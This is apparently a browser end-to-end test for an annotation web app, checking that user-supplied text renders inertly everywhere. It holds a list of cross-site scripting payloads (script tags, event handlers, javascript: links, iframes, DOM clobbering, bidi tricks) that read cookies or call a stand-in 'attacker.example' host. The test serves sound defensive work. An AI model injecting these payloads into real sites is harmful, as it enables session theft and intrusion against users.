import { expect, test } from 'vitest';
import { sideways } from '../support/accessible.ts';
import { browser, onStage, product } from '../support/stage.ts';
import { becomeOwner, makeProject } from '../support/through-api.ts';
import { visit } from '../support/visitor.ts';
import { Workbench } from '../support/workbench.ts';

const own = 'window.pwned = true; alert(document.cookie)';
const elsewhere = 'https://attacker.example/steal';

/** Each would do harm where text becomes markup. */
const payloads = [
  `<script>${own}</script><script src="${elsewhere}.js"></script>`,
  `<img src="x" onerror="${own}"><img src="${elsewhere}.png"> ![pixel](${elsewhere}.png "seen") ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `<svg onload="${own}"><animate onbegin="${own}" attributeName="x"/><use href="${elsewhere}#a"/></svg><math><mtext><style><img src onerror="${own}"></style></mtext></math>`,
  `[click](javascript:${encodeURIComponent(own)}) [tab](java\tscript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)> [v](vbscript:msgbox)`,
  `<iframe src="${elsewhere}" srcdoc="<script>parent.pwned=true</script>"></iframe><object data="${elsewhere}"></object><embed src="${elsewhere}"><link rel="stylesheet" href="${elsewhere}.css"><meta http-equiv="refresh" content="0;url=${elsewhere}"><base href="${elsewhere}/">`,
  `<form id="content" name="body" action="${elsewhere}"><input name="attributes" id="root"><input name="cookie" autofocus onfocus="${own}"><button formaction="javascript:alert(1)">send</button></form><a id="location" name="location" href="${elsewhere}">x</a>`,
  `| ${'a | '.repeat(300)}\n| ${'- | '.repeat(300)}\n| ${'cell | '.repeat(300)}\n\n${'x'.repeat(5000)}\n\n${'> '.repeat(60)}deep`,
  `\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Bzero\u200B [\u202Ehttps://good.example](${elsewhere})`,
  `$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{${elsewhere}.png} \\htmlData{onclick=alert(1)}{y}$$ $\\url{javascript:alert(1)}$`,
  `\`\`\`html"><img src=x onerror=alert(1)>\n</code></pre><script>${own}</script>\n\`\`\`\n[^1]: <img src=x onerror=alert(1)>\n\n- [ ] <script>alert(1)</script>\n\n<details open ontoggle="${own}"><style>*{background:url(${elsewhere})}</style>`,
];

onStage({ demo: false });

test('hostile text is text everywhere: no script runs, no dialog opens, nothing is asked of another host', async () => {
  const visitor = await visit(browser, product);
  const { page, words } = visitor;
  await becomeOwner(visitor, product);
  const name = `<img src=x onerror="${own}">`;
  const { projectId, importId } = await makeProject(visitor, product, {
    name,
    description: payloads[0]!,
    guidelines: payloads.join('\n\n'),
    filename: `<img src=x onerror=alert(1)>.jsonl`,
    rows: payloads.map((payload, index) => ({
      prompt_id: payload.slice(0, 40),
      category: name,
      source: name,
      messages: [
        { role: 'system', content: payload },
        { role: 'user', content: payload },
      ],
      responses: [
        { model: name, content: payload },
        { model: 'other', content: `${index} ${payload}` },
      ],
    })),
  });
  const bench = new Workbench(visitor);
  await page.goto(`/annotate/${projectId}`);
  await bench.ready();
  await page.keyboard.press('g');
  await page.getByRole('complementary', { name: words('labeling.guidelines') }).waitFor();
  const seen: string[] = [];
  for (let pair = 0; pair < payloads.length; pair += 1) {
    await bench.ready();
    await expectHarmless();
    await page.keyboard.press('m');
    await page.getByRole('button', { name: words('labeling.rendered') }).waitFor();
    seen.push((await page.locator('[data-visible] [data-text="0"]').textContent()) ?? '');
    await expectHarmless();
    await page.keyboard.press('m');
    await bench.decide('1');
  }
  // Direction-turning characters are shown by their number, everything else as it was written.
  for (const payload of payloads)
    expect(seen.some((text) => text.includes(plain(payload).slice(0, 60)))).toBe(true);
  await page.getByRole('heading', { name: words('labeling.finished') }).waitFor();

  const console = [
    '',
    '/imports',
    `/imports/${importId}`,
    '/comparisons',
    '/guidelines',
    '/question',
    '/datasets',
    '/datasets/new',
    '/members',
  ];
  for (const place of console) {
    await page.goto(`/projects/${projectId}${place}`);
    await visitor.settled();
    await expectHarmless();
  }
  await page.goto(`/projects/${projectId}/comparisons`);
  await page.getByRole('table').getByRole('link').first().click();
  await page.waitForURL('**/comparisons/*');
  await visitor.settled();
  await expectHarmless();
  await page.goto(`/my-work/${projectId}/judgments`);
  await page.getByRole('table').waitFor();
  await expectHarmless();
  expect(visitor.faults).toEqual([]);

  async function expectHarmless(): Promise<void> {
    const found = await page.evaluate(() => ({
      pwned: 'pwned' in globalThis,
      elements: [
        ...document.querySelectorAll(
          'main :is(iframe, object, embed, base, form[action], img, svg animate, svg use, meta, link)',
        ),
      ].map((one) => one.outerHTML.slice(0, 200)),
      scripts: [...document.scripts].filter((one) => !one.src.startsWith(location.origin)).length,
      handlers: [...document.querySelectorAll('*')]
        .flatMap((one) => [...one.attributes])
        .filter(({ name }) => name.startsWith('on')).length,
      links: [...document.querySelectorAll('a[href]')]
        .map((one) => (one as HTMLAnchorElement).protocol)
        .filter((protocol) => !/^https?:$/.test(protocol)),
      clobbered:
        document.querySelectorAll('#root').length !== 1 ||
        document.querySelectorAll('#content').length !== 1 ||
        !(document.body instanceof HTMLBodyElement),
    }));
    expect(found).toEqual({
      pwned: false,
      elements: [],
      scripts: 0,
      handlers: 0,
      links: [],
      clobbered: false,
    });
    expect(await sideways(page)).toBe(0);
  }
});

function plain(text: string): string {
  return text.replace(
    /[\u200B\u202A-\u202E\u2066-\u2069]/g,
    (character) => `U+${character.codePointAt(0)!.toString(16).toUpperCase()}`,
  );
}
